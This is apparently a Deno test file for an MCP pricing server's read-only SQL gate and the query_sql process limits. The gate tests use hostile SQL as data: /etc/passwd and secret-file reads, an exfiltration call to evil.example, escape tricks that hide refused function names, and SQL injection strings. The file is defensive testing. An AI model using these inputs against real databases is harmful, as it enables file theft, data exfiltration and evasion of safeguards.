/**
 * The SQL gate (lib/sources/statement_gate.ts) and query_sql's deadline over the frame (lib/mcp/sql.ts),
 * called directly: the refusals by statement, and Polars' uncancellable runaways bounded.
 */
import { deepStrictEqual as assertEquals, match, ok, rejects } from "node:assert/strict";
import { goldenDemoData } from "./fixtures/golden_demo.ts";
import {
  closeFrameSql,
  frameQueriesWaiting,
  frameSqlPid,
  queryFrame,
  queryTables,
} from "../lib/mcp/sql.ts";
import { MAX_WAITING, removeDeadSqlFolders } from "../lib/mcp/sql_process.ts";
import { polarsPackageDirs, sqlProcessArgs, sqlProcessCommand } from "../lib/mcp/sql_launch.ts";
import { EXIT_MEMORY, READY_LINE } from "../lib/mcp/sql_protocol.ts";
import { call, connectInMemory, refused, stdioClient, text } from "./mcp_client.ts";
import { DatasetStore } from "../lib/mcp/dataset.ts";
import { mcpSettings } from "../lib/mcp/settings.ts";
import { join } from "node:path";
import { ownerTag } from "../lib/formats/staging.ts";
import { checkReadOnlySelect } from "../lib/sources/statement_gate.ts";
import { createMcpHttpHandler } from "../lib/mcp/http.ts";
// @ts-types="@modelcontextprotocol/sdk/client/index"
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
// @ts-types="@modelcontextprotocol/sdk/client/streamableHttp"
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { HANG_GUARD_MS } from "./hang_guard.ts";

Deno.test("the read-only gate: one SELECT, no writes, literals are data", () => {
  assertEquals(
    checkReadOnlySelect("SELECT 'DELETE; DROP' AS s;  ", "postgres"),
    "SELECT 'DELETE; DROP' AS s",
  );
  assertEquals(
    checkReadOnlySelect("with t as (select 1) select * from t", "clickhouse"),
    "with t as (select 1) select * from t",
  );
  for (
    const [sql, reason] of [
      ["DELETE FROM organization", /only SELECT/],
      ["SELECT 1; DROP TABLE organization", /one statement/],
      ["SELECT 1 -- x\n; UPDATE organization SET name = 'x'", /one statement/],
      ["WITH d AS (DELETE FROM organization RETURNING 1) SELECT * FROM d", /DELETE is refused/],
      ["SELECT * INTO backup FROM organization", /INTO is refused/],
      ["SELECT * FROM organization FOR UPDATE", /UPDATE is refused/],
      ["SELECT pg_read_file('/etc/passwd')", /pg_read_file/],
    ] as const
  ) {
    let message = "";
    try {
      checkReadOnlySelect(sql, "postgres");
    } catch (error) {
      message = (error as Error).message;
    }
    ok(reason.test(message), `${sql}: ${message}`);
  }
  let polars = "";
  try {
    checkReadOnlySelect("SELECT * FROM read_csv('/etc/passwd')", "polars");
  } catch (error) {
    polars = (error as Error).message;
  }
  ok(/read_csv/.test(polars), polars);
});

/** The gate's refusal of `sql` in `dialect`, or "accepted". */
function gate(sql: string, dialect: "polars" | "postgres" | "clickhouse"): string {
  try {
    checkReadOnlySelect(sql, dialect);
    return "accepted";
  } catch (error) {
    return (error as Error).message;
  }
}

Deno.test("the read-only gate: no SETTINGS clause on ClickHouse, no set_config or SET on PostgreSQL; a trailing ; and comments are fine", () => {
  const settingsRefused =
    "a SETTINGS clause is refused: the session's limits (readonly, max_execution_time) hold for every statement, and a readonly=1 profile refuses every setting sent with a query; remove it (quote a column named settings as `settings`)";
  for (
    const sql of [
      "SELECT count() FROM numbers(20000000000) SETTINGS max_execution_time = 0",
      "SELECT 1 AS x SETTINGS readonly = 0",
      "SELECT * FROM (SELECT 1 AS x settings max_memory_usage = 0)",
      "SELECT 1 AS x SETTINGS /* c */ max_threads = 64;",
    ]
  ) assertEquals(gate(sql, "clickhouse"), settingsRefused, sql);
  assertEquals(gate("SELECT `settings` FROM t", "clickhouse"), "accepted");
  assertEquals(gate("SELECT 'SETTINGS readonly = 0' AS x", "clickhouse"), "accepted");
  // PostgreSQL's ways to lift statement_timeout inside a statement
  assertEquals(
    gate("SELECT set_config('statement_timeout', '0', true), pg_sleep(100)", "postgres"),
    "function set_config() is refused: it reads files, reaches other servers or has side effects",
  );
  match(gate("SET LOCAL statement_timeout = 0", "postgres"), /only SELECT statements/);
  match(gate("SELECT 1; SET LOCAL statement_timeout = 0", "postgres"), /one statement/);
  // a trailing ; with comments after it, as a query file may end
  assertEquals(
    checkReadOnlySelect("SELECT 1 AS x;\n-- end of query\n", "clickhouse"),
    "SELECT 1 AS x",
  );
  assertEquals(checkReadOnlySelect("SELECT 1 AS x; /* end */", "postgres"), "SELECT 1 AS x");
  match(gate("SELECT 1 AS x; SELECT 2 AS y; -- end", "clickhouse"), /one statement/);
});

Deno.test("the read-only gate: a column or alias named like a write word passes in a select list; the same word as a statement or clause is refused", () => {
  const dialects = ["postgres", "clickhouse", "polars"] as const;
  // after SELECT, DISTINCT, AS or a comma (a table's name and a dot may stand before it), before
  // a comma, AS or FROM: a name in every engine's grammar
  for (
    const sql of [
      "SELECT start, comment FROM events",
      "SELECT id, start AS s, load AS l FROM events",
      "SELECT DISTINCT comment FROM events",
      "SELECT e.start, e.comment AS c FROM events e",
      'SELECT "e".start, public . e . comment, x FROM events',
      "SELECT min(created_at) AS start, max(created_at) AS release FROM events",
      "SELECT lower(name) AS comment, count(*) AS n FROM events GROUP BY 1",
      "SELECT id FROM (SELECT id, security, cluster FROM events) AS t",
      "SELECT\n  start,\n  -- the end\n  comment\nFROM events",
    ]
  ) {
    for (const dialect of dialects) {
      assertEquals(gate(sql, dialect), "accepted", `${dialect}: ${sql}`);
    }
  }
  // the words where they write, lock or start a statement stay refused
  for (
    const [sql, word] of [
      ["WITH d AS (DELETE FROM organization RETURNING id) SELECT count(*) FROM d", "DELETE"],
      ["WITH d AS MATERIALIZED (UPDATE t SET a = 1 RETURNING a) SELECT a FROM d", "UPDATE"],
      [
        "WITH a AS (SELECT 1), d AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT 1 FROM d",
        "INSERT",
      ],
      ["SELECT * FROM organization FOR UPDATE", "UPDATE"],
      ["SELECT id FROM organization FOR NO KEY UPDATE OF organization", "UPDATE"],
      // an empty select list: SELECT INTO writes a table (INTO counts wherever it stands)
      ["SELECT INTO backup FROM organization", "INTO"],
      ["SELECT id, INTO FROM organization", "INTO"],
      ["SELECT * INTO backup FROM organization", "INTO"],
      ["SELECT 1 AS x FROM t INTO OUTFILE 'x.csv'", "INTO"],
      // not in a select list's place: a column named start elsewhere is still to be quoted
      ["SELECT id FROM events ORDER BY start", "START"],
      ["SELECT id FROM events WHERE comment IS NULL", "COMMENT"],
      ["SELECT count(start) AS n FROM events", "START"],
      ["SELECT 1 start FROM events", "START"],
      ["SELECT t.select start FROM t", "START"],
      ["SELECT x$start, y FROM t", "START"],
      ["SELECT 1.start, y FROM t", "START"],
      ["SELECT a.b.c.d.e.start, y FROM t", "START"],
      ["SELECT start FROM events WHERE start > 0", "START"],
    ] as const
  ) {
    assertEquals(
      gate(sql, "postgres"),
      `only read-only SELECT statements are allowed; ${word} is refused (nothing is ever written; quote a column or table named ${word.toLowerCase()})`,
      sql,
    );
  }
  // the first word decides the statement, whatever follows it
  for (const sql of ["START TRANSACTION", "COMMENT ON TABLE t IS 'x'", "LOAD 'x', 'y'"]) {
    match(gate(sql, "postgres"), /only SELECT statements are allowed \(read-only\)/, sql);
  }
});

Deno.test("the read-only gate: ClickHouse's system tables are read in a SELECT, the SYSTEM statement is refused", () => {
  for (
    const sql of [
      "SELECT query, elapsed FROM system.processes",
      "SELECT name, type FROM system.columns WHERE table = 'request_response_rmt'",
      "SELECT name, value FROM system.settings WHERE name = 'readonly'",
      "SELECT count() FROM SYSTEM . tables",
      "SELECT * FROM `system`.processes",
      "SELECT column_name FROM information_schema.columns",
    ]
  ) assertEquals(gate(sql, "clickhouse"), "accepted", sql);
  for (const sql of ["SYSTEM RELOAD DICTIONARIES", "system drop dns cache"]) {
    match(gate(sql, "clickhouse"), /only SELECT statements are allowed \(read-only\); SYSTEM/);
  }
});

Deno.test("the read-only gate refuses PostgreSQL's functions with side effects, one of each family", () => {
  // PostgreSQL 15's volatile pg_catalog functions that change something (pg_proc, provolatile
  // 'v'), pg_current_xact_id (which assigns an xid), older servers' names and common extensions'
  for (
    const call of [
      "pg_stat_reset()",
      "pg_stat_reset_shared('bgwriter')",
      "pg_catalog.pg_stat_reset_single_table_counters(1)",
      "pg_stat_statements_reset()",
      "pg_stat_force_next_flush()",
      "pg_logical_emit_message(true, 'x', 'y')",
      "pg_logical_slot_get_changes('s', NULL, NULL)",
      "pg_current_xact_id()",
      "txid_current()",
      "pg_notify('c', 'x')",
      "pg_advisory_xact_lock(1)",
      "pg_try_advisory_lock(1)",
      "pg_cancel_backend(1)",
      "pg_terminate_backend(1)",
      "pg_reload_conf()",
      "pg_rotate_logfile()",
      "pg_rotate_logfile_old()",
      "pg_log_backend_memory_contexts(1)",
      "pg_switch_wal()",
      "pg_switch_xlog()",
      "pg_create_restore_point('x')",
      "pg_create_logical_replication_slot('s', 'test_decoding')",
      "pg_copy_physical_replication_slot('a', 'b')",
      "pg_drop_replication_slot('s')",
      "pg_replication_slot_advance('s', '0/0')",
      "pg_replication_origin_create('o')",
      "pg_backup_start('x')",
      "pg_start_backup('x')",
      "pg_wal_replay_pause()",
      "pg_promote()",
      "pg_export_snapshot()",
      "setval('s', 1)",
      "nextval('s')",
      "lo_import('/etc/passwd')",
      "lowrite(0, 'x')",
      "dblink_exec('host=x', 'DELETE FROM t')",
      "pg_read_file_old('x', 0, 1)",
      "pg_file_write('x', 'y', false)",
      "query_to_xml('SELECT nextval(''s'')', true, true, '')",
      "ts_stat('SELECT nextval(''s'')::text::tsvector')",
      "ts_rewrite('a'::tsquery, 'SELECT nextval(''s'')')",
      "brin_summarize_new_values('i')",
      "gin_clean_pending_list('i')",
      "pg_import_system_collations('pg_catalog')",
      "pg_nextoid('t', 'c', 'i')",
      "binary_upgrade_set_next_pg_type_oid(1)",
      "set_config('statement_timeout', '0', true)",
      // newer servers' (16, 17)
      "pg_log_standby_snapshot()",
      "pg_sync_replication_slots()",
      // extensions that reach other servers from the READ ONLY transaction, or run SQL outside
      // it: Supabase's http (pgsql-http) and pg_net, pg_background, aws_s3
      "http(('GET', 'https://evil.example/', NULL, NULL, NULL)::http_request)",
      "extensions.http_get('https://evil.example/?d=' || (SELECT string_agg(id::text, ',') FROM organization))",
      "http_post('https://evil.example/', 'x', 'text/plain')",
      "net.http_get('https://evil.example/')",
      "http_set_curlopt('CURLOPT_PROXY', 'evil.example')",
      "pg_background_launch('DELETE FROM organization')",
      "pg_background_result(1)",
      "aws_s3.query_export_to_s3('SELECT 1', 'b', 'k')",
    ]
  ) {
    const name = call.replace(/^(pg_catalog|extensions|net|aws_s3)\./, "").split("(")[0];
    assertEquals(
      gate(`SELECT ${call} AS x`, "postgres"),
      `function ${name}() is refused: it reads files, reaches other servers or has side effects`,
      call,
    );
  }
  // reading functions of the same families pass
  for (
    const call of [
      "pg_stat_get_numscans(1)",
      "pg_current_xact_id_if_assigned()",
      "txid_current_if_assigned()",
      "txid_current_snapshot()",
      "txid_status(1)",
      "pg_is_wal_replay_paused()",
      "pg_current_wal_lsn()",
      "currval('s')",
      "pg_sleep(0)",
      "lower('x')",
      // a column named http, and functions whose names only start like the refused ones
      "(SELECT http FROM (SELECT 1 AS http) AS t)",
      "httpd_status(1)",
    ]
  ) assertEquals(gate(`SELECT ${call} AS x`, "postgres"), "accepted", call);
});

Deno.test("the read-only gate reads strings and comments as each engine does", () => {
  // Polars SQL: '' doubling only, a backslash is a character ('a\' is a whole string)
  for (
    const [sql, verdict] of [
      ["SELECT 'a\\' AS x, * FROM read_csv('/tmp/fake.env') -- '", /read_csv\(\) is refused/],
      ["SELECT 'a\\' AS x, * FROM \"read_csv\"('/tmp/fake.env') -- '", /read_csv\(\) is refused/],
      // sqlparser takes a '…' string where a table goes for a name: 'read_csv'(…) is read_csv(…)
      ["SELECT * FROM 'read_csv'('/tmp/fake.env')", /read_csv\(\) is refused/],
      ["SELECT * FROM 'Scan_Parquet' /* x */ ('/tmp/x.parquet')", /Scan_Parquet\(\) is refused/],
      ["SELECT * FROM pricing_data WHERE org_name = 'a\\' OR 1=1 --'", /^accepted$/],
      ['SELECT \'it\'\'s\' AS x, "a\\" AS "b""c" FROM pricing_data', /^accepted$/],
      ["SELECT 1 AS `a\\` ; DROP TABLE x --`", /one statement/],
      // E'…' reads backslash escapes in Polars SQL: refused, not guessed at
      ["SELECT E'a\\' AS x, * FROM read_csv('/x') -- '", /E'…' strings are refused/],
      ["SELECT 1e'a\\' AS x FROM pricing_data", /right after the number 1e/],
      ["SELECT @e'a\\' AS x, * FROM read_csv('/x') -- '", /e'…' strings are refused/],
      ["SELECT $$a$$ AS x FROM pricing_data", /\$ is refused/],
      ["SELECT 1 AS x -- c\r, * FROM read_csv('/x')", /carriage return/],
      // nested comments, as Polars nests them
      ["SELECT 1 AS x /* a /* b */ read_csv('/x') */ FROM pricing_data", /^accepted$/],
      ["SELECT 1 AS x /* a /* b */ FROM pricing_data", /unclosed \/\* comment/],
    ] as const
  ) ok(verdict.test(gate(sql, "polars")), `${sql}: ${gate(sql, "polars")}`);
  // PostgreSQL: '' doubling (backslash escapes too when standard_conforming_strings is off:
  // both readings must pass), E'…' with backslash escapes, $$ quoting, -- ends at CR or LF
  for (
    const [sql, verdict] of [
      ["SELECT 'a\\' AS x, pg_read_file('/etc/passwd') -- '", /pg_read_file\(\) is refused/],
      ["SELECT 'a\\' AS x", /unclosed ' string.*standard_conforming_strings off/],
      ["SELECT 'a\\\\' AS x", /^accepted$/],
      ["SELECT E'a\\' , pg_read_file(' AS x", /^accepted$/],
      ["SELECT e'a\\'' AS x, pg_read_file('/etc/passwd') -- '", /pg_read_file/],
      ["SELECT $q$ ' $q$ AS a, pg_read_file('/etc/passwd') AS b", /pg_read_file/],
      ["SELECT $$ ' $$ AS a, $t$ $$ ' $t$ AS b", /^accepted$/],
      ["SELECT 1 AS x -- c\r, pg_read_file('/etc/passwd')", /carriage return/],
      ["SELECT 1.e'x' AS x", /right after the number 1\.e/],
      ["SELECT 1 AS x /* a /* ; */ b */", /^accepted$/],
    ] as const
  ) ok(verdict.test(gate(sql, "postgres")), `${sql}: ${gate(sql, "postgres")}`);
  // ClickHouse: backslash escapes in '…', "…" and `…`; what its versions read differently
  for (
    const [sql, verdict] of [
      ["SELECT 'a\\' , * FROM file('/etc/passwd') -- ' AS x", /^accepted$/],
      // (one name, which holds a backslash: refused as such, not read as two statements)
      ["SELECT 1 AS `a\\` ; DROP TABLE x --`", /backslash in a quoted name is refused/],
      ["SELECT 1 AS x // c\n, * FROM file('/etc/passwd')", /\/\/ is refused/],
      ["SELECT 1 AS x # c\n, * FROM file('/etc/passwd')", /# is refused/],
      ["SELECT 1 AS x /* /* */ , file('/etc/passwd') */", /a \/\* inside a \/\* comment/],
      ["SELECT $$a$$ AS x", /\$ is refused/],
    ] as const
  ) ok(verdict.test(gate(sql, "clickhouse")), `${sql}: ${gate(sql, "clickhouse")}`);
});

Deno.test('the read-only gate: a PostgreSQL U&"…" name, whose escapes spell a refused function, is refused', () => {
  // U&"pg\005fread_file" is pg_read_file to PostgreSQL (it read the server's files past the gate)
  for (
    const sql of [
      "SELECT U&\"pg\\005fread_file\"('/etc/hostname')",
      "SELECT u&\"pg\\005fls_dir\"('.')",
      "SELECT U&\"pg!005fread_file\" UESCAPE '!' ('/etc/hostname')",
    ]
  ) match(gate(sql, "postgres"), /U&"…" names are refused/, sql);
  // the same letters in a string, a comment or an operator between a column and a name pass
  for (
    const sql of [
      "SELECT 'U&\"x\"' AS s",
      'SELECT 1 AS x -- U&"x"',
      'SELECT u &"x" FROM (SELECT 1 AS u, 2 AS "x") t',
    ]
  ) assertEquals(gate(sql, "postgres"), "accepted", sql);
});

Deno.test("the read-only gate: a ClickHouse quoted name with a backslash escape is refused", () => {
  // ClickHouse decodes escapes in `…` and "…" names: `\x66ile`(…) is file(…), "u\x72l"(…) url(…)
  // (the test server fetched the URL past the gate)
  for (
    const sql of [
      "SELECT * FROM `\\x66ile`('users.xml', 'TSV', 'a String')",
      "SELECT * FROM \"u\\x72l\"('http://127.0.0.1:1/', 'TSV', 'a String')",
      "SELECT 1 AS `a\\`b`",
    ]
  ) match(gate(sql, "clickhouse"), /backslash in a quoted name is refused/, sql);
  // a backslash in a string is data; quoted names without one pass
  for (
    const sql of [
      "SELECT 'a\\x66' AS s",
      'SELECT 1 AS `file`, 2 AS "url"',
    ]
  ) assertEquals(gate(sql, "clickhouse"), "accepted", sql);
});

Deno.test("the read-only gate refuses modern ClickHouse's table functions that read files or reach other servers", () => {
  // a readonly=2 session (the kit's) allows table functions: the gate is what refuses them
  for (
    const fn of [
      "fileCluster",
      "hdfsCluster",
      "gcsCluster",
      "deltaLakeCluster",
      "deltaLakeAzure",
      "deltaLakeLocal",
      "hudiCluster",
      "paimonS3",
      "ytsaurus",
      "arrowFlight",
      "cosn",
      "oss",
      "fuzzQuery",
    ]
  ) {
    match(gate(`SELECT * FROM ${fn}('x')`, "clickhouse"), /is refused: it reads files/, fn);
  }
  // ClickHouse's URL string functions are not the url() table function
  assertEquals(
    gate("SELECT URLHash('http://a'), cutURLParameter('x', 'y')", "clickhouse"),
    "accepted",
  );
});

/** The demo export's frame, as the server holds it. */
async function demoFrame() {
  return (await goldenDemoData()).frame; // (its as-of: 2026-11-01)
}

/** Whether a process has ended (gone, or a zombie not yet reaped). */
async function processEnded(pid: number): Promise<boolean> {
  try {
    return /State:\s+Z/.test(await Deno.readTextFile(`/proc/${pid}/status`));
  } catch {
    return true;
  }
}

/** Waits until `condition` holds (HANG_GUARD_MS at most: a hang guard, not a budget). */
async function until(condition: () => Promise<boolean>, what: string): Promise<void> {
  const started = Date.now();
  while (!(await condition())) {
    if (Date.now() - started > HANG_GUARD_MS) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
}

const LIMITS = { maxRows: 10, timeoutMs: 30_000, maxMb: 2048, startMs: 30_000 };

/** Three copies of the demo's 400 organizations crossed: 64 million names, ordered. */
const RUNAWAY = "SELECT a.org_name || b.org_name || c.org_name AS s FROM pricing_data a " +
  "CROSS JOIN pricing_data b CROSS JOIN pricing_data c ORDER BY s LIMIT 1";

const failureOf = (promise: Promise<unknown>) =>
  promise.then(() => "answered", (error: Error) => error.message);

Deno.test("query_sql: a statement past its deadline is stopped, its process killed", async () => {
  const frame = await demoFrame();
  try {
    const count = await queryFrame(frame, "SELECT count(*) AS n FROM pricing_data", LIMITS);
    assertEquals(count.rows, [{ n: 400 }]);
    const pid = frameSqlPid()!;
    const message = await failureOf(
      queryFrame(frame, RUNAWAY, { ...LIMITS, timeoutMs: 300, maxMb: 1_000_000 }),
    );
    ok(
      /^the query ran longer than 0.3 s \(PRICING_MCP_SQL_TIMEOUT_SECONDS\) and was stopped/.test(
        message,
      ),
      message,
    );
    await until(() => processEnded(pid), "the stopped statement's process to end");
    // the next statement starts a new process and answers
    const again = await queryFrame(frame, "SELECT max(seats) AS m FROM pricing_data", LIMITS);
    assertEquals(again.rows, [{ m: frame.getColumn("seats").max() }]);
    ok(frameSqlPid() !== pid);
  } finally {
    await closeFrameSql();
  }
});

Deno.test("query_sql: a statement past its memory cap is stopped, its process killed", async () => {
  const frame = await demoFrame();
  try {
    await queryFrame(frame, "SELECT 1 AS one FROM pricing_data LIMIT 1", LIMITS);
    const pid = frameSqlPid()!;
    const message = await failureOf(queryFrame(frame, RUNAWAY, { ...LIMITS, maxMb: 400 }));
    ok(
      /^the query needed more than 400 MB \(PRICING_MCP_SQL_MAX_MB\) and was stopped/.test(message),
      message,
    );
    await until(() => processEnded(pid), "the stopped statement's process to end");
  } finally {
    await closeFrameSql();
  }
});

Deno.test("query_sql: statements wait their turn; past MAX_WAITING they are refused", async () => {
  const frame = await demoFrame();
  try {
    // one runaway holds the process until its deadline (no memory cap before it: under load it
    // reached 2 GB first); sixteen wait behind it, the seventeenth is refused
    const runaway = failureOf(
      queryFrame(frame, RUNAWAY, { ...LIMITS, timeoutMs: 600, maxMb: 1_000_000 }),
    );
    const waiting = Array.from(
      { length: MAX_WAITING },
      (_, i) => queryFrame(frame, `SELECT count(*) + ${i} AS n FROM pricing_data`, LIMITS),
    );
    assertEquals(frameQueriesWaiting(), MAX_WAITING);
    assertEquals(MAX_WAITING, 16);
    const refused = await failureOf(queryFrame(frame, "SELECT 1 AS one FROM pricing_data", LIMITS));
    assertEquals(refused, BUSY);
    const stopped = await runaway;
    ok(/ran longer than 0.6 s/.test(stopped), stopped);
    const answers = await Promise.all(waiting);
    // the demo's 400 organizations, plus i
    assertEquals(
      answers.map((a) => a.rows),
      Array.from({ length: MAX_WAITING }, (_, i) => [{ n: 400 + i }]),
    );
    assertEquals(frameQueriesWaiting(), 0);
  } finally {
    await closeFrameSql();
  }
});

/** The refusal of a statement past MAX_WAITING (16), with the numbers. */
const BUSY = "query_sql is busy: 1 query running and 16 waiting, the most that may wait " +
  "(queries run one at a time, in a process of their own, to bound its memory); ask again " +
  "once some of these have answered";

Deno.test("query_sql: a statement waiting past its deadline leaves the queue unrun, saying why", async () => {
  const frame = await demoFrame();
  const tables = { pricing_data: frame };
  const first = new AbortController();
  try {
    // the process started and the table written, so the slow statement runs at once
    await queryFrame(frame, "SELECT 1 AS one FROM pricing_data LIMIT 1", LIMITS);
    const pid = frameSqlPid()!;
    // a deadline the slow one does not reach (only its cancel stops it); 0.1 s for the other
    const slow = failureOf(
      queryTables(tables, SLOW, { ...LIMITS, timeoutMs: 600_000 }, { signal: first.signal }),
    );
    const waited = await failureOf(
      queryTables(tables, "SELECT 2 AS two", { ...LIMITS, timeoutMs: 100 }),
    );
    // twice its deadline: 0.2 s, well within the slow one's ~2 s
    assertEquals(
      waited,
      "the query waited 0.2 s (2 × PRICING_MCP_SQL_TIMEOUT_SECONDS) for its turn and did not " +
        "start: 1 other query was running or waiting (one runs at a time); ask again, or send " +
        "fewer at once",
    );
    assertEquals(frameQueriesWaiting(), 0);
    assertEquals(frameSqlPid(), pid, "the running statement was left to run");
    first.abort();
    ok(/cancelled/.test(await slow));
    // the next statement answers (the one that left never runs before it)
    const again = await queryFrame(frame, "SELECT 3 AS three", LIMITS);
    assertEquals(again.rows, [{ three: 3 }]);
  } finally {
    first.abort();
    await closeFrameSql();
  }
});

Deno.test("query_sql: the statement's process ends when its server is killed mid-statement", async () => {
  // A SIGKILLed server cannot remove its tables' folder: it makes it in a temporary folder of the
  // test's, removed here (it was left in /tmp after every run).
  const tmp = await Deno.makeTempDir({ prefix: "mcp_sql_killed_" });
  try {
    await killedMidStatement(tmp);
    const left = [...Deno.readDirSync(tmp)].map((e) => e.name);
    assertEquals(left.length, 1, left.join());
    ok(left[0].startsWith("pricing-kit-sql-"), left[0]);
  } finally {
    await Deno.remove(tmp, { recursive: true });
  }
});

/** The runaway server (its TMPDIR `tmp`) killed once its statement runs; its SQL process ends. */
async function killedMidStatement(tmp: string): Promise<void> {
  const server = new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", new URL("./fixtures/sql_runaway_server.ts", import.meta.url).pathname],
    env: { TMPDIR: tmp },
    stdout: "piped",
    stderr: "null",
  }).spawn();
  const reader = server.stdout.getReader();
  let printed = "";
  while (!printed.includes("\n")) {
    const { value, done } = await reader.read();
    if (done) break;
    printed += new TextDecoder().decode(value);
  }
  const pid = Number(printed.trim());
  ok(pid > 0, printed);
  // killed once the statement runs: the process's memory growing past 300 MB says it does
  const residentMb = async () =>
    Number((await Deno.readTextFile(`/proc/${pid}/status`)).match(/VmRSS:\s+(\d+)/)?.[1]) / 1024;
  await until(async () => await residentMb() > 300, "the runaway to run");
  server.kill("SIGKILL");
  await server.status;
  reader.releaseLock();
  await server.stdout.cancel();
  // its stdin, the lifeline, ended with the server: it ends too, not after the runaway
  await until(() => processEnded(pid), "the SQL process to end with its server");
}

Deno.test("query_sql: the statement's process keeps the limits itself when nobody stops it", async () => {
  const frame = await demoFrame();
  const dir = await Deno.makeTempDir();
  try {
    const path = `${dir}/pricing_data.parquet`;
    frame.writeParquet(path);
    const child = sqlProcessCommand().spawn();
    const stdin = child.stdin.getWriter();
    const request = { sql: RUNAWAY, tables: { pricing_data: path }, maxRows: 10 };
    // the memory cap, with stdin kept open (a server alive but not watching)
    await stdin.write(
      new TextEncoder().encode(
        JSON.stringify({ ...request, timeoutMs: 600_000, maxMb: 400 }) + "\n",
      ),
    );
    // its stdout read, as a server does: its first line, then no answer
    const [status, said] = await Promise.all([
      child.status,
      new Response(child.stdout).text(),
      child.stderr.cancel(),
    ]);
    assertEquals([status.code, said], [EXIT_MEMORY, READY_LINE + "\n"]);
    await stdin.close().catch(() => {});
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("deno task mcp: SIGTERM ends the server, its SQL process and the tables' files", async () => {
  const tmp = await Deno.makeTempDir({ prefix: "mcp_sigterm_" });
  const { transport, client } = stdioClient({ TMPDIR: tmp, PRICING_MCP_EXPORTS_DIR: tmp });
  try {
    await client.connect(transport);
    const answered = await call(client, "query_sql", {
      sql: "SELECT count(*) AS n FROM pricing_data",
    });
    assertEquals(answered.isError, undefined, text(answered));
    const folders = () =>
      [...Deno.readDirSync(tmp)].filter((e) => e.name.startsWith("pricing-kit-sql-"));
    assertEquals(folders().length, 1, "the tables' files are in a folder of TMPDIR");
    const serverPid = transport.pid!;
    // the server's children: Linux lists them per thread that spawned them
    let children = "";
    for (const task of Deno.readDirSync(`/proc/${serverPid}/task`)) {
      children += " " + await Deno.readTextFile(`/proc/${serverPid}/task/${task.name}/children`);
    }
    const sqlPid = Number(children.trim().split(/\s+/)[0]);
    ok(sqlPid > 0, "the SQL process runs under the server");
    Deno.kill(serverPid, "SIGTERM");
    await until(() => processEnded(serverPid), "the server to end on SIGTERM");
    await until(() => processEnded(sqlPid), "the SQL process to end with it");
    assertEquals(folders(), [], "no table file left behind");
  } finally {
    await client.close().catch(() => {});
    await Deno.remove(tmp, { recursive: true });
  }
});

Deno.test("query_sql: a statement Polars cannot plan fails in one line saying why", async () => {
  const frame = await demoFrame();
  const failure = (sql: string) =>
    queryFrame(frame, sql, LIMITS).then(
      () => "answered",
      (error: Error) => error.message,
    );
  // nodejs-polars hands these back inside a lazy frame, whose first use said only
  // "_ldf.slice is not a function"
  for (
    const [sql, reason] of [
      ["SELECT * FROM export", /relation 'export' was not found \(the table is pricing_data\)$/],
      ["SELECT no_such_column FROM pricing_data", /unable to find column "no_such_column"/],
      ["SELECT tier FROM pricing_data WHERE", /sql parser error/],
    ] as const
  ) {
    const message = await failure(sql);
    ok(message.startsWith("the query failed in Polars SQL: "), `${sql}: ${message}`);
    ok(reason.test(message), `${sql}: ${message}`);
    ok(!message.includes("\n") && !message.includes("_ldf"), `${sql}: ${message}`);
  }
  await closeFrameSql();
});

Deno.test("query_sql: a backslash hides no file read; what the gate accepts runs as it read it", async () => {
  const tmp = await Deno.makeTempDir({ prefix: "mcp_backslash_" });
  const secret = `${tmp}/fake.env`;
  await Deno.writeTextFile(secret, "API_KEY=sk-not-for-models\n");
  const { transport, client } = stdioClient({ TMPDIR: tmp, PRICING_MCP_EXPORTS_DIR: tmp });
  try {
    await client.connect(transport);
    for (
      const sql of [
        `SELECT 'a\\' AS x, * FROM read_csv('${secret}') -- '`,
        `SELECT E'a\\' AS x, * FROM read_csv('${secret}') -- '`,
        `SELECT 1 AS x -- \r, * FROM read_csv('${secret}')`,
      ]
    ) {
      const result = await call(client, "query_sql", { sql });
      refused(result, /refused/);
      ok(!text(result).includes("sk-not-for-models"), text(result));
    }
    // 'a\' ends where Polars ends it: OR 1=1 is code, every organization matches
    const all = await call(client, "query_sql", {
      sql: "SELECT count(*) AS n FROM pricing_data WHERE org_name = 'a\\' OR 1=1 --'",
    });
    assertEquals(all.isError, undefined, text(all));
    assertEquals(all.structuredContent!.rows, [{ n: 400 }]);
    // a nested comment ends where Polars ends it: the ; inside is no second statement
    const nested = await call(client, "query_sql", {
      sql: "SELECT 'it''s' AS x /* a /* b */ ; DROP */ FROM pricing_data LIMIT 1",
    });
    assertEquals(nested.isError, undefined, text(nested));
    assertEquals(nested.structuredContent!.rows, [{ x: "it's" }]);
  } finally {
    await client.close().catch(() => {});
    await Deno.remove(tmp, { recursive: true });
  }
});

Deno.test("query_sql's process refuses file reads itself, whatever the gate let through", async () => {
  const frame = await demoFrame();
  const dir = await Deno.makeTempDir({ prefix: "mcp_sql_process_" });
  const secret = `${dir}/fake.env`;
  await Deno.writeTextFile(secret, "API_KEY=sk-not-for-models\n");
  try {
    const path = `${dir}/pricing_data.parquet`;
    frame.writeParquet(path);
    // Deno lets it read Polars' package and nothing else (Polars' own reads are checked below)
    const readable = polarsPackageDirs();
    const reads = sqlProcessArgs().filter((a) => a.startsWith("--allow-read"));
    assertEquals(reads, [`--allow-read=${readable.join(",")}`]);
    ok(readable.every((d) => /nodejs-polars/.test(d)), readable.join(","));
    const child = sqlProcessCommand().spawn();
    const stdin = child.stdin.getWriter();
    const reader = child.stdout.pipeThrough(new TextDecoderStream()).getReader();
    let buffered = "";
    const nextLine = async () => {
      while (!buffered.includes("\n")) {
        const { value, done } = await reader.read();
        if (done) throw new Error("the SQL process ended");
        buffered += value;
      }
      const line = buffered.slice(0, buffered.indexOf("\n"));
      buffered = buffered.slice(line.length + 1);
      return line;
    };
    // its first line says Polars is loaded (the server's deadlines run from it)
    assertEquals(await nextLine(), READY_LINE);
    const ask = async (sql: string) => {
      const request = { sql, tables: { pricing_data: path }, ...LIMITS };
      await stdin.write(new TextEncoder().encode(JSON.stringify(request) + "\n"));
      return JSON.parse(await nextLine());
    };
    // sent straight to the process: no gate in front of it
    for (
      const sql of [
        `SELECT * FROM read_csv('${secret}')`,
        `SELECT * FROM "READ_CSV" /* x */ ('${secret}')`,
        `SELECT * FROM read_csv\n('${secret}')`,
